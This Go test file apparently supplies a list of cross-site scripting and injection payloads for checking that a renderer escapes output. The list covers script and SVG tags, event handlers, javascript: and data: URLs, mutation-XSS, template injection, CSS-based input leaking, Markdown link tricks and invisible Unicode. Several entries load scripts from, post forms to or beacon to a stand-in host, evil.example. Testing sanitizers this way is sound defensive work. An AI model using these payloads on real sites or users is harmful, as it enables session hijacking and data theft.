package xsstest

import "strings"

// Payloads returns strings that do harm, or show something else than they are, where they
// come unescaped into a page: into text, an attribute, an address, a script or a style.
// Each is one that a browser, a template language or a Markdown renderer once fell for, or
// a variation of it.
func Payloads() []string {
	var all []string
	for _, list := range [][]string{elements, handlers, addresses, broken, mutations, templates, styles, markdown, invisible} {
		all = append(all, list...)
	}
	for _, tag := range []string{"script", "img", "svg", "iframe", "object", "embed", "base", "meta", "link", "form", "style", "template", "math", "video", "details"} {
		all = append(all, "<"+tag, "<"+tag+" ", "<"+tag+">", "</"+tag+">", "<"+strings.ToUpper(tag)+"/x=1>")
	}
	return all
}

var elements = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script >alert(1)</script >`, `<script/src=data:,alert(1)>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1);//<</script>`, `</script><script>alert(1)</script>`, `<script>alert(1)`,
	`<script type="text/javascript">alert(1)</script>`, `<script type=module>import("//evil.example")</script>`, `<script>/*</script>*/alert(1)</script>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="javascript:alert(1)">`,
	`<embed src="data:text/html,<script>alert(1)</script>">`, `<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="//evil.example/x.css">`, `<link rel="prefetch" href="//evil.example/beacon">`, `<form action="//evil.example"><input name=key><button>Go`,
	`<button formaction="javascript:alert(1)">x`, `<isindex action="javascript:alert(1)">`, `<portal src="//evil.example">`, `<frameset onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`, `<svg><script xlink:href="data:,alert(1)"/></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName=onmouseover to=alert(1)>`, `<svg><foreignObject><body onload=alert(1)>`,
	`<math href="javascript:alert(1)">x</math>`, `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x`,
	`<template><script>alert(1)</script></template>`, `<slot name=x onslotchange=alert(1)>`, `<dialog open onclose=alert(1)>`, `<marquee onstart=alert(1)>`,
	`<!-- --><script>alert(1)</script>`, `<!DOCTYPE html><script>alert(1)</script>`, `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<plaintext>`, `<xmp><script>alert(1)</script></xmp>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<title></title><script>alert(1)</script>`, `<textarea></textarea><script>alert(1)</script>`,
}

var handlers = []string{
	`<img src=x onerror=alert(1)>`, `<img src=x onerror="alert(1)">`, `<img src=x onerror='alert(1)'>`, "<img src=x onerror=`alert(1)`>", `<img/src=x/onerror=alert(1)>`,
	"<img\nsrc=x\nonerror=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", `<img src="x` + "`" + `<script>alert(1)</script>"` + "`>",
	`<img """><script>alert(1)</script>">`, `<img src=x:alert(alt) onerror=eval(src) alt=1>`, `<image src=x onerror=alert(1)>`, `<img srcset="x,y" onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg onload=alert(1)//`, `<svg onload="alert&lpar;1&rpar;">`, `<svg><style onload=alert(1)>`,
	`<body onload=alert(1)>`, `<body onpageshow=alert(1)>`, `<body background="javascript:alert(1)">`, `<input autofocus onfocus=alert(1)>`, `<input type=image src=x onerror=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<video><source onerror=alert(1)>`,
	`<video poster=javascript:alert(1)//>`, `<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>`, `<div onpointerover=alert(1)>x</div>`,
	`<div style="animation-name:x" onanimationstart=alert(1)>`, `<a onmouseover=alert(1)>x</a>`, `<x onclick=alert(1)>x`, `<x contenteditable onblur=alert(1)>x`,
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `"><img src=x onerror=alert(1)>`, `'><img src=x onerror=alert(1)>`, `"/><script>alert(1)</script>`,
	"` onmouseover=alert(1)", ` onmouseover=alert(1) `, `x" autofocus onfocus="alert(1)`, `x tabindex=1 onfocus=alert(1)`, `" accesskey="x" onclick="alert(1)`, `--><img src=x onerror=alert(1)>`,
	`]]><img src=x onerror=alert(1)>`, `</textarea><img src=x onerror=alert(1)>`, `</title><img src=x onerror=alert(1)>`, `</style><img src=x onerror=alert(1)>`, `</pre><img src=x onerror=alert(1)>`,
	`</details></div></body></html><script>alert(1)</script>`, `&lt;img src=x onerror=alert(1)&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;script&#x3e;alert(1)`, `&amp;lt;script&amp;gt;`,
	`&lt`, `&#`, `&#x`, `&`, `&;`, `&nbsp;&copy;&quot;&apos;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)`, `\x3cscript\x3ealert(1)`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
}

var addresses = []string{
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, ` javascript:alert(1)`, "java\nscript:alert(1)", "java\tscript:alert(1)", "java\x00script:alert(1)", "\x01javascript:alert(1)",
	`javascript://example.com/%0aalert(1)`, `javascript:/*--></title></style></textarea></script><svg onload=alert(1)>`, `vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=alert(1)>`, `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
	`blob:https://example.com/1`, `filesystem:https://example.com/x`, `file:///etc/passwd`, `//evil.example`, `\\evil.example\x`, `/\evil.example`, `https:evil.example`, `https:///evil.example`,
	`https://good.example@evil.example/`, `https://good.example%2f@evil.example/`, `https://good.example\@evil.example`, `https://evil.example/"onmouseover="alert(1)`,
	`https://evil.example/'onmouseover='alert(1)`, `https://evil.example/<script>alert(1)</script>`, `https://еvil.example/`, `https://evil.example/` + "\u202egpj.exe", `http://[::1]/`, `http://0x7f.1/`, `jar:https://evil.example!/x`,
	`mailto:x@evil.example?body=<script>`, `view-source:https://evil.example`, `ms-settings:x`, `https://`, `http://`, `https://:80`, `https://%zz`, `https://evil.example:port`,
}

var broken = []string{
	`<`, `>`, `<<`, `<>`, `</`, `</>`, `<!`, `<!-`, `<!--`, `<!-->`, `<!--->`, `<?`, `<a`, `<a `, `<a href`, `<a href=`, `<a href="`, `<a href='`, `<a href="x`, `<a href="javascript:alert(1)`,
	`<img src="`, `<img src='x`, `<img src=x onerror=`, `<img src=x onerror="alert(1)`, `<a<b<c`, `<1>`, `<a/b/c=d>`, `<=>`, `< script>alert(1)</ script>`, "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>",
	"<script\x00>alert(1)</script>", "\x00", "\xff<script>alert(1)</script>", "\xc0\xbcscript\xc0\xbealert(1)", "<img src=x onerror=\xe2\x80alert(1)>", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xef\xbb\xbf<script>", "\r<script>\r",
	"<script>\u2028alert(1)</script>", "＜script＞alert(1)＜/script＞", "‹script›", "ʺ onload=alert(1) ʺ", "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "a\bb\x7fc",
}

var mutations = []string{
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`, `<listing><img onerror="alert(1);//" src=x><t t></listing>`,
	`<img alt="` + "`" + `" src=x onerror=alert(1)>`, `<svg><p><style><g title="</style><img src onerror=alert(1)>">`, `<table><td><svg><desc></table><img src=x onerror=alert(1)>`,
	`<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">`, `<x><!--<a title="--><img src=x onerror=alert(1)>"></x>`,
	`<a id="x"><a id="x" name="attributes"><form id=test><input name=innerHTML>`, `<img name=getElementById><form name=body>`, `<div id="troupe"></div><a name=troupe href="javascript:alert(1)">`,
	`<p id="constructor"></p><p id="__proto__"></p>`, `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`, `<style><style/><img src=x onerror=alert(1)>`, `<textarea><img title="</textarea><img src onerror=alert(1)>">`,
}

var templates = []string{
	`{{.}}`, `{{7*7}}`, `{{define "layout"}}x{{end}}`, `{{template "layout" .}}`, `{{html .}}{{js .}}{{.Prefs}}`, `{{constructor.constructor('alert(1)')()}}`, `${7*7}`, `${alert(1)}`, `#{7*7}`, `<%= 7*7 %>`, `{%raw%}`, `*{7*7}`,
	`@(7*7)`, `{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}`, `<div ng-app ng-csp>{{$on.curry.call().alert(1)}}</div>`, `<div v-html="'<img src=x onerror=alert(1)>'"></div>`, `<div x-data x-init="alert(1)"></div>`,
	`<div hx-get="//evil.example" hx-trigger="load"></div>`, `<div data-on-load="alert(1)"></div>`, `');alert(1);//`, `";alert(1);//`, "`;alert(1);//", `\");alert(1);//`, `*/alert(1)/*`, `//` + "\nalert(1)", `</script\u003e`, `{"__proto__":{"x":"<img src=x onerror=alert(1)>"}}`,
	`{"<img src=x onerror=alert(1)>":"</span><script>alert(1)</script>"}`, `["<script>alert(1)</script>",{"a\"><svg onload=alert(1)>":"\u003cscript\u003e"}]`, `"\u003cimg src=x onerror=alert(1)\u003e"`, `{"a":"{\"b\":\"<script>alert(1)</script>\"}"}`,
	`{"a":"\ud800<script>","b":"\u202e\u0000\u2066"}`, `{"url":"javascript:alert(1)","html":"&lt;b&gt;"}`, `{"a":1e400,"a":-0,"b":[[[[[["<b>"]]]]]]}`, `{"a":<script>}`, `[1,2,`, `{"a":"multi\n<script>\nline\n</span>\n"}`,
}

var styles = []string{
	`<style>@import "//evil.example/x.css";</style>`, `<style>body{background:url("javascript:alert(1)")}</style>`, `<style>*{display:none}</style>`, `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
	`<div style="background:url(javascript:alert(1))">`, `<div style="width:expression(alert(1))">`, `<div style="-moz-binding:url(//evil.example)">`, `<div style="position:fixed;inset:0;z-index:9999">`, `;background:url(//evil.example);`, `}*{display:none}`,
	`x;width:expression(alert(1))`, `" style="position:fixed`, `' style='position:fixed`, `</style><style>*{display:none}`, `\3c/style\3e`, `<div class="chip notice">fake</div>`, `<span class=k>`, `</span></span></div>`,
}

var markdown = []string{
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x]( javascript:alert(1))`, `[x](<javascript:alert(1)>)`, `[x](data:text/html,<script>alert(1)</script>)`, `[x](vbscript:x)`, `[x](//evil.example)`, `[x](/traces)`, `[x](#main)`,
	`[x](https://evil.example/"onmouseover="alert(1))`, `[x](https://evil.example/'x)`, `[x](https://a@evil.example)`, `[x](https://evil.example "title" onclick=alert(1))`, `[x](https://evil.example/<img>)`, `[<img src=x onerror=alert(1)>](https://evil.example)`,
	`![x](https://evil.example/beacon.png)`, `![x](javascript:alert(1))`, `[![x](https://evil.example/a.png)](https://evil.example)`, `[a](https://x.example)[b](https://y.example)`, `[[a](https://x.example)](https://y.example)`, `[*a](https://x.example)*`,
	`*[a*](https://x.example)`, `**_a**_`, `***a**b*`, "`<script>alert(1)</script>`", "``a`<b>`` <b>", "```\n<script>alert(1)</script>\n```", "```html\n</code></pre><script>alert(1)</script>", "```\"><script>\nx\n```", "~~~\n<b>", `<https://evil.example>`, `<javascript:alert(1)>`,
	`<a href="https://evil.example">x</a>`, "[x]: javascript:alert(1)\n[x]", "[x][y]\n\n[y]: javascript:alert(1)", `# <script>alert(1)</script>`, `- <img src=x onerror=alert(1)>`, `1. <svg onload=alert(1)>`, `999999999. x`, `1"onload=x. x`, "| a | <b> |\n|---|---|\n| x | y |",
	`https://evil.example/?a=1&b=<script>`, `https://evil.example/*a*_b_`, `http://x.example/).`, `\<script>alert(1)\</script>`, `\[x](https://x.example)`, `a\`, "* a\n  * <b>\n    * c\n* d", "- a\n\n  ```\n  <b>\n- c", `&lt;script&gt; *&amp;*`,
	`[a\](https://x.example)`, "[a](https://x.example\n)", "*a\n\nb*", `_a_b_`, `[](https://x.example)`, "[`](https://x.example)`", "`[a`](https://x.example)",
}

var invisible = []string{
	"\u202egnp.exe", "user\u202e \u2066// admin\u2069 \u2066", "a\u200bb", "a\u200cb\u200dc", "\ufeffx", "\u2066<b>\u2069", "\u061cx\u200e\u200f", "a\u00adb", "\u2060\u2061\u2062\u2063", "\u206a\u206f", "\U000e0041\U000e0042\U000e007f", "a\ufe01\U000e0101",
	"\u2028\u2029", "\x00\x00\x00", "\u0000\u001f\u007f\u0080\u009f", "\r\n\r", "\u115f\u1160\u3164\uffa0", "\ufff9a\ufffab\ufffb", "می\u200cخواهم", "👩\u200d👩\u200d👧", "\u200d\u200d\u200d", "👩\u200d\u200d\u200d👧", "שלום\u202c", "\ufffe\uffff",
}
